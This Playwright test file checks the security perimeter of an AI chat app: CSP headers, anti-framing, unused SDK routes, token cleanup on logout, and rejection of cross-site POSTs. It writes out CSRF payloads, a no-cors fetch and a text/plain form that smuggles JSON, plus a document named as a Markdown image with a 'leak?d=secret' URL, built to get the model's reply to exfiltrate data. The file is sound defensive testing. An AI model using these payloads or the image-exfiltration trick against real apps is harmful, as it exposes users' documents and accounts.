import { expect, test, type APIResponse, type Page, type Response } from "@playwright/test";
import postgres from "postgres";
import { baseURL, databaseURL, identityURL } from "../playwright.config";
import { ask, ensureConnected, ensureDisconnected, logOut, signIn, watchPolicyViolations } from "./helpers";

/**
 * The perimeter, attacked from outside: response headers, framing, cross-origin requests riding on the user's
 * cookie, the SDK routes the app does not use, a Markdown image in model output, and provider tokens that must
 * not outlive a logout. The attacker's pages are served on the sandbox identity server's origin: another port on
 * localhost, so *same-site* with the app, and the SameSite=Lax session cookie goes along with their requests.
 */

const ALICE = "auth0|alice";

async function cachedConnections(userId: string): Promise<string[]> {
  const sql = postgres(databaseURL, { max: 1, onnotice: () => {} });
  try {
    const rows = await sql<{ connection: string }[]>`select connection from connection_tokens where user_id = ${userId} order by connection`;
    return rows.map((row) => row.connection);
  } finally {
    await sql.end();
  }
}

/**
 * Opens a page the attacker controls on another origin of the same site: a real page of the identity server
 * (one served by page.route would count as a public address, and Chromium keeps public pages off localhost)
 * with the attacker's content in place of its own.
 */
async function openAttackerPage(page: Page, body: string) {
  await page.goto(`${identityURL}/authenticator`);
  await page.evaluate((html) => {
    document.body.innerHTML = html;
  }, body);
}

async function uploadViaApi(page: Page, name: string, text: string): Promise<string> {
  const response = await page.request.post("/api/documents", { multipart: { file: { name, mimeType: "text/markdown", buffer: Buffer.from(text) } } });
  expect(response.status()).toBe(201);
  return ((await response.json()) as { id: string }).id;
}

/**
 * The POSTs the page sends to the app, with the status the server answered and the cookies that went along,
 * read from the DevTools protocol: a no-cors fetch's answer is blocked (Cross-Origin-Resource-Policy) before
 * Playwright's response event could report it.
 */
async function recordPosts(page: Page) {
  const cdp = await page.context().newCDPSession(page);
  await cdp.send("Network.enable");
  const paths = new Map<string, string>();
  const cookies = new Map<string, string>();
  const statuses = new Map<string, number>();
  cdp.on("Network.requestWillBeSent", ({ requestId, request }) => {
    if (request.method === "POST" && request.url.startsWith(baseURL)) paths.set(requestId, new URL(request.url).pathname);
  });
  cdp.on("Network.requestWillBeSentExtraInfo", ({ requestId, headers }) => cookies.set(requestId, String(headers.cookie ?? headers.Cookie ?? "")));
  cdp.on("Network.responseReceivedExtraInfo", ({ requestId, statusCode }) => statuses.set(requestId, statusCode));
  return () =>
    [...paths].flatMap(([requestId, path]) => {
      const status = statuses.get(requestId);
      return status === undefined ? [] : [{ path, status, cookie: cookies.get(requestId) ?? "" }];
    });
}

function expectSecurityHeaders(response: Response | APIResponse, path: string) {
  const headers = response.headers();
  const policy = headers["content-security-policy"] ?? "";
  expect(policy, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{16,}' 'strict-dynamic'/);
  for (const directive of ["default-src 'self'", "img-src 'self' data: blob:", "connect-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'", "object-src 'none'"]) {
    expect(policy, path).toContain(directive);
  }
  // `next start` is production: no eval, no inline styles.
  expect(policy, path).not.toContain("unsafe");
  expect(headers["x-frame-options"], path).toBe("DENY");
  expect(headers["x-content-type-options"], path).toBe("nosniff");
  expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
  expect(headers["permissions-policy"], path).toContain("camera=()");
  // The app is served over http here, so HSTS would be wrong.
  expect(headers["strict-transport-security"], path).toBeUndefined();
  return policy;
}

test("every page and API answer carries the CSP with a fresh nonce, and every script of the page has it", async ({ page }) => {
  const violations = watchPolicyViolations(page);
  const landing = await page.request.get("/");
  expectSecurityHeaders(landing, "/ signed out");

  await signIn(page, "alice@example.com");
  await ask(page, "Who am I?");
  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
  const chatPath = new URL(page.url()).pathname;

  const nonces = new Set<string>();
  for (const path of ["/", chatPath, "/documents", "/connections", "/api/chats"]) {
    const response = await page.request.get(path);
    expect(response.status(), path).toBe(200);
    const nonce = /'nonce-([^']+)'/.exec(expectSecurityHeaders(response, path))![1]!;
    nonces.add(nonce);
    if (path.startsWith("/api/")) continue;
    // Next.js put the nonce on every script it rendered, inline or not; a script without it would not run.
    const scripts = (await response.text()).match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length, path).toBeGreaterThan(0);
    for (const script of scripts) expect(script, path).toContain(`nonce="${nonce}"`);
  }
  expect(nonces.size).toBe(5);

  // Refusals and SDK redirects are answered with the headers too.
  expectSecurityHeaders(await page.request.get("/auth/profile"), "/auth/profile");
  const refused = await page.request.post("/api/chat", { headers: { "content-type": "text/plain" }, data: "{}" });
  expect(refused.status()).toBe(415);
  expectSecurityHeaders(refused, "a refused request");

  // The app works under its own policy: hydrated pages, client navigation, the chat stream.
  await page.getByRole("link", { name: "Documents" }).click();
  await expect(page.getByRole("heading", { name: "Documents" })).toBeVisible();
  await page.getByRole("link", { name: "Connections" }).click();
  await expect(page).toHaveURL(/\/connections$/);
  expect(violations).toEqual([]);
});

test("a page on another origin cannot frame the documents page", async ({ page }) => {
  await signIn(page, "alice@example.com");
  const framed = page.waitForResponse((response) => response.url() === `${baseURL}/documents`);
  await openAttackerPage(page, `<h1>Win a prize</h1><iframe title="prize" src="${baseURL}/documents" width="900" height="600"></iframe>`);
  const response = await framed;
  // The browser got the page (with the user's cookie) but refused to show it inside another site.
  expect(response.status()).toBe(200);
  expect(response.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame())!;
  await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
  await expect(page.frameLocator('iframe[title="prize"]').getByRole("heading", { name: "Documents" })).toHaveCount(0);
});

test("a page on another origin cannot share a document or send a chat message with the user's cookie", async ({ page, browser }) => {
  await signIn(page, "alice@example.com");
  const documentId = await uploadViaApi(page, "payroll-2026.md", "Payroll for March: 12,345.67 EUR to 14 people (see appendix).");
  const chatId = crypto.randomUUID();

  const attempts = await recordPosts(page);
  await openAttackerPage(page, "<h1>Win a prize</h1>");
  await page.evaluate(
    async ({ baseURL, documentId, chatId }) => {
      // A no-cors fetch with a text/plain body needs no preflight, and the cookie goes along. The attacker never
      // reads the answer (Cross-Origin-Resource-Policy makes the fetch fail once it arrives): sending is the attack.
      const post = (path: string, body: unknown) =>
        fetch(`${baseURL}${path}`, { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: JSON.stringify(body) }).catch(
          () => null,
        );
      await post(`/api/documents/${documentId}/shares`, { with: "everyone" });
      await post("/api/chat", { id: chatId, message: { id: crypto.randomUUID(), role: "user", parts: [{ type: "text", text: "Buy 2 Acme Widgets" }] } });
    },
    { baseURL, documentId, chatId },
  );
  // The oldest trick: a form whose text/plain body happens to be valid JSON, {"with":"everyone","x":"="}.
  const formPost = page.waitForResponse((response) => response.url().endsWith(`/api/documents/${documentId}/shares`) && response.request().method() === "POST" && response.request().isNavigationRequest());
  await page.evaluate(
    ({ action }) => {
      const form = document.createElement("form");
      form.method = "POST";
      form.action = action;
      form.enctype = "text/plain";
      const input = document.createElement("input");
      input.name = '{"with":"everyone","x":"';
      input.value = '"}';
      form.append(input);
      document.body.append(form);
      form.submit();
    },
    { action: `${baseURL}/api/documents/${documentId}/shares` },
  );
  await formPost;

  const shares = `/api/documents/${documentId}/shares`;
  await expect.poll(() => attempts().map(({ path, status }) => `${path} ${status}`)).toEqual([`${shares} 403`, "/api/chat 403", `${shares} 403`]);
  // The session cookie did ride along: only the origin check stood in the way.
  for (const attempt of attempts()) expect(attempt.cookie, attempt.path).toContain("__session");

  // Nothing changed: the document is still alice's alone, and no chat was created.
  const bob = await (await browser.newContext()).newPage();
  await signIn(bob, "bob@example.com");
  expect((await bob.request.get(`/api/documents/${documentId}`)).status()).toBe(403);
  const { chats } = (await (await page.request.get("/api/chats")).json()) as { chats: { id: string }[] };
  expect(chats.map((chat) => chat.id)).not.toContain(chatId);
  // The same share from the app itself works, so the refusal was not for some other reason.
  await page.goto("/documents");
  const same = await page.evaluate(
    async ({ documentId }) =>
      (await fetch(`/api/documents/${documentId}/shares`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ with: "everyone" }) })).status,
    { documentId },
  );
  expect(same).toBe(200);
  expect((await bob.request.get(`/api/documents/${documentId}`)).status()).toBe(200);
});

test("the SDK routes the app does not use answer 404 to a signed-in user", async ({ page }) => {
  await signIn(page, "alice@example.com");
  await ensureConnected(page, "Google");
  const api = page.request;
  // The session is good: these answer only because it is.
  expect((await api.get("/api/chats")).status()).toBe(200);

  for (const path of ["/me/v1/connected-accounts/accounts", "/me/v1/connected-accounts/connections", "/my-org/v1/details", "/auth/profile", "/auth/access-token", "/auth/mfa/authenticators", "/auth/passkey/challenge"]) {
    expect((await api.get(path)).status(), `GET ${path}`).toBe(404);
  }
  const posts: [string, object][] = [
    ["/auth/passwordless/start", { connection: "email", email: "alice@example.com", send: "code" }],
    ["/auth/passwordless/verify", { connection: "email", email: "alice@example.com", verificationCode: "123456" }],
    ["/auth/mfa/challenge", { mfaToken: "x", challengeType: "otp" }],
    ["/auth/passkey/register", {}],
    ["/auth/backchannel-logout", {}],
    ["/me/v1/connected-accounts/connect", { connection: "google-oauth2" }],
  ];
  for (const [path, data] of posts) expect((await api.post(path, { data })).status(), `POST ${path}`).toBe(404);
  expect((await api.delete("/me/v1/connected-accounts/accounts/any")).status()).toBe(404);

  // Google is still connected: nothing went through the My Account proxy.
  await page.goto("/connections");
  await expect(page.getByRole("main").getByRole("listitem", { name: "Google", exact: true }).getByRole("button", { name: "Disconnect Google" })).toBeVisible();
});

test("a Markdown image in a reply is shown as text and never fetched", async ({ page }) => {
  const outside: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).host === "127.0.0.1:9") outside.push(request.url());
  });
  await signIn(page, "alice@example.com");
  // A document named like a Markdown image: the model cites document names, so the image reaches its reply.
  // (Image syntax inside the text does not survive chunking, which splits sentences at "!", "." and "?".)
  await uploadViaApi(page, "![budget chart](http://127.0.0.1:9/leak?d=secret).md", "The llama budget for 2026 is 4,200 EUR, up from 3,900 EUR.");
  const reply = await ask(page, "Search my documents for the llama budget");

  await expect(reply).toContainText("[image: budget chart] (http://127.0.0.1:9/leak?d=secret)");
  await expect(reply.locator("img")).toHaveCount(0);
  // Give a late fetch every chance to show up.
  await page.reload();
  await expect(page.getByRole("article", { name: "Assistant message" }).last()).toContainText("[image: budget chart]");
  expect(outside).toEqual([]);

  const blocked = page.getByText("[image: budget chart]").last();
  await page.screenshot({ path: "/tmp/perimeter-blocked-image-desktop.png" });
  await page.setViewportSize({ width: 375, height: 740 });
  await blocked.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "/tmp/perimeter-blocked-image-375.png" });
});

test("logging out and disconnecting forget the provider tokens cached for the user", async ({ page }) => {
  await signIn(page, "alice@example.com");
  await ensureConnected(page, "Google");
  await page.goto("/");
  await expect(await ask(page, "What's on my calendar today?")).toContainText("Team standup");
  expect(await cachedConnections(ALICE)).toContain("google-oauth2");

  await logOut(page, "Alice Martin");
  expect(await cachedConnections(ALICE)).toEqual([]);

  // Disconnecting the account forgets its token too.
  await signIn(page, "alice@example.com");
  await expect(await ask(page, "What's on my calendar today?")).toContainText("Team standup");
  expect(await cachedConnections(ALICE)).toContain("google-oauth2");
  await ensureDisconnected(page, "Google");
  expect(await cachedConnections(ALICE)).not.toContain("google-oauth2");
});
